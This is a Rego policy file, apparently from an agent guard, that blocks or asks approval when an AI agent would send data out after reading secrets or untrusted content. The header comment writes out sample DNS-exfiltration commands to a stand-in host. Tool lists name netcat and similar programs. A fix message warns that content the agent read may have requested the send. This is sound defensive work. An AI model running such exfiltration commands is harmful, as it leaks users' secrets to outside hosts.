# After secret material was read in the session: the channels that carry data without a body,
# a query or an upload, which the secrets guard already judges. A host name built from the data
# (DNS exfiltration: `curl https://<encoded>.evil.com`, `ping $(cat f | base64).evil.com`), a
# DNS lookup of a name the user did not give, request headers and cookies, and search queries
# that hold long random strings. Each blocks unless the user named the destination's domain.
package opafence.taint

import data.opafence.guards.common
import data.opafence.lib.paths
import data.opafence.lib.reason

secret_read if input.session.taint.secret_read == true

# Programs whose every run resolves the names they are given.
resolver_cmds := {
	"ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "getent", "whois", "arping", "fping",
	"hping3", "nping", "dig", "nslookup", "host", "drill", "delv", "kdig", "resolvectl", "systemd-resolve",
	"nc", "ncat", "netcat", "telnet", "ssh", "scp", "sftp", "mosh", "rsync",
}

http_cmds := {"curl", "wget", "http", "https", "httpie", "xh", "aria2c", "lynx", "links", "w3m"}

header_flags := {
	"-H", "--header", "-b", "--cookie", "-A", "--user-agent", "-e", "--referer", "-u", "--user",
	"--proxy-header", "--oauth2-bearer", "--proxy-user",
}

granted_domains := {d | some g in common.task_grants; some d in g.domains}

granted_host(h) if {
	some d in granted_domains
	paths.domain_within(h, d)
}

# METADATA
# title: secret_channels
# description: The ways this call would carry data off the machine that no body or query shows.
secret_channels contains sprintf("the host name %s", [u.host]) if {
	some u in input.facts.urls
	u.host_data == true
	not u.loopback == true
	not granted_host(u.host)
}

secret_channels contains sprintf("the path of %s", [u.host]) if {
	some u in input.facts.urls
	u.path_data == true
	not u.loopback == true
	not granted_host(u.host)
}

# An MCP or plugin tool whose arguments name where its data goes, whatever its verb.
secret_channels contains sprintf("the %s argument", [k]) if {
	input.facts.tool.origin != "builtin"
	some k, v in input.call.args
	lower(k) in destination_args
	is_string(v)
	v != ""
}

destination_args := {
	"destination", "dest", "forward_to", "forwardto", "webhook", "webhook_url", "callback", "callback_url",
	"url", "endpoint", "target_url", "notify_url", "redirect_uri",
}

secret_channels contains sprintf("a lookup of the name %s", [op]) if {
	some c in common.commands
	common.cmd_name(c) in resolver_cmds
	some op in c.operands
	looked_up(op)
	not granted_host(op)
}

secret_channels contains sprintf("a name built when `%s` runs", [common.shown(c)]) if {
	some c in common.commands
	common.cmd_name(c) in (resolver_cmds | http_cmds)
	c.dynamic == true
}

secret_channels contains sprintf("a request header of `%s`", [common.shown(c)]) if {
	some c in common.commands
	common.cmd_name(c) in http_cmds
	some f in header_flags
	common.has_flag(c, f)
	not all_hosts_granted
}

# httpie's request items: `Header:value`, `field=value`, `field:=json`, `param==value`.
secret_channels contains sprintf("the request items of `%s`", [common.shown(c)]) if {
	some c in common.commands
	common.cmd_name(c) in {"http", "https", "httpie", "xh", "xhs"}
	some op in c.operands
	request_item(op)
	not all_hosts_granted
}

secret_channels contains "a search query with a long random string" if {
	input.call.tool in {"web_search", "x_search"}
	some w in input.facts.words
	count(w) >= 24
}

request_item(op) if contains(op, "=")

request_item(op) if {
	contains(op, ":")
	not contains(op, "://")
	not regex.match(`^[A-Za-z0-9.-]+:[0-9]+(/|$)`, op)
}

# A name that goes to a resolver: it has a dot and a letter, and is not a local name or an address.
looked_up(op) if {
	contains(op, ".")
	regex.match(`[A-Za-z]`, op)
	not startswith(op, "-")
	not startswith(op, "@")
	not lower(op) in {"localhost", "localhost.localdomain"}
	not endswith(lower(op), ".localhost")
}

all_hosts_granted if {
	count(input.facts.urls) > 0
	every u in input.facts.urls {
		granted_host(u.host)
	}
}

# METADATA
# title: TAINT_SECRET_CHANNEL
# description: >-
#   Secret material was read in this session, and this call would carry data off the machine
#   in {{.channel}}, to a destination the user did not name.
# custom:
#   code: TAINT_SECRET_CHANNEL
#   fix: >-
#     Send nothing after reading secrets; if the user wants this request, they name its
#     domain in their own words.
deny contains reason.render(rego.metadata.rule(), {"channel": substring(channel, 0, 160)}) if {
	secret_read
	some channel in secret_channels
}

# --- after untrusted content: data in a request asks ------------------------------------------------

# The channels that carry data, not merely a request: a value that looks like a secret or an
# encoded token in a URL's query, path or host labels, a name or URL built when the command
# runs (command substitution), a DNS lookup of an encoded name, a search for a long random
# string, an MCP tool's destination argument. A plain link or a plain search carries none.
data_channels contains sprintf("the URL of %s", [u.host]) if {
	some u in input.facts.urls
	not u.loopback == true
	url_data(u)
	not granted_host(u.host)
}

url_data(u) if u.secret_like == true

url_data(u) if u.host_data == true

url_data(u) if u.path_data == true

data_channels contains sprintf("a name or URL built when `%s` runs", [common.shown(c)]) if {
	some c in common.commands
	common.cmd_name(c) in (resolver_cmds | http_cmds)
	c.dynamic == true
	some d in common.commands
	d.context in {"command_substitution", "process_substitution"}
}

data_channels contains sprintf("a lookup of the name %s", [op]) if {
	some c in common.commands
	common.cmd_name(c) in resolver_cmds
	some op in c.operands
	looked_up(op)
	regex.match(`(^|\.)[A-Za-z0-9_-]{24,}\.`, op)
	not granted_host(op)
}

data_channels contains "a search query with a long random string" if {
	input.call.tool in {"web_search", "x_search"}
	some w in input.facts.words
	count(w) >= 24
}

data_channels contains c if {
	some c in secret_channels
	startswith(c, "the ")
	endswith(c, " argument")
}

# METADATA
# title: TAINT_DATA_CHANNEL
# description: >-
#   Untrusted content entered this session, and this call would carry data off the machine in
#   {{.channel}}; following a plain link or searching stays a read, but this is a send, so the
#   user confirms it first.
# custom:
#   code: TAINT_DATA_CHANNEL
#   fix: Approve it only if the request carries nothing private; the content the agent read may have asked for it.
ask contains reason.render(rego.metadata.rule(), {"channel": substring(channel, 0, 160)}) if {
	input.session.taint.untrusted == true
	not secret_read
	some channel in data_channels
}

# --- after a secret read or untrusted content: paths computed at run time ------------------------

# Programs that read the files they are given (or copy, pack, encode or send them).
file_readers := {
	"cat", "tac", "head", "tail", "less", "more", "nl", "base64", "base32", "basenc", "xxd", "od", "hexdump",
	"strings", "grep", "egrep", "fgrep", "rg", "ag", "awk", "gawk", "sed", "cut", "sort", "uniq", "paste",
	"diff", "cmp", "comm", "jq", "yq", "cp", "install", "rsync", "scp", "tar", "zip", "7z", "gzip", "bzip2",
	"xz", "zstd", "openssl", "gpg", "dd", "source", ".", "curl", "wget", "nc", "ncat", "socat", "python",
	"python3", "perl", "ruby", "node", "vim", "vi", "nano", "view", "file", "stat", "md5sum", "sha256sum",
	"sha1sum", "split", "csplit", "iconv", "fold", "fmt", "pr", "column", "rev", "look", "cpio", "pax",
}

# METADATA
# title: computed_reads
# description: >-
#   Commands that read files whose names are computed when the command runs (`cat "$(cat
#   list)"`, `xargs cat < list`, `cat $FILE`, `while read f; do cat "$f"; done`): which file
#   they read is unknown until then.
computed_reads contains c if {
	some c in common.commands
	c.dynamic == true
	common.cmd_name(c) in file_readers
}

# METADATA
# title: TAINT_COMPUTED_PATH
# description: >-
#   `{{.command}}` reads a file whose name is computed when it runs, after {{.after}} entered
#   this session; what it reads cannot be checked beforehand, so it is no ordinary read.
# custom:
#   code: TAINT_COMPUTED_PATH
#   fix: Name the file literally, or approve it only if you know which file the command reads.
ask contains reason.render(rego.metadata.rule(), {"command": common.shown(c), "after": after}) if {
	some after in computed_path_context
	some c in computed_reads
}

computed_path_context contains "secret material" if secret_read

computed_path_context contains "untrusted content" if input.session.taint.untrusted == true
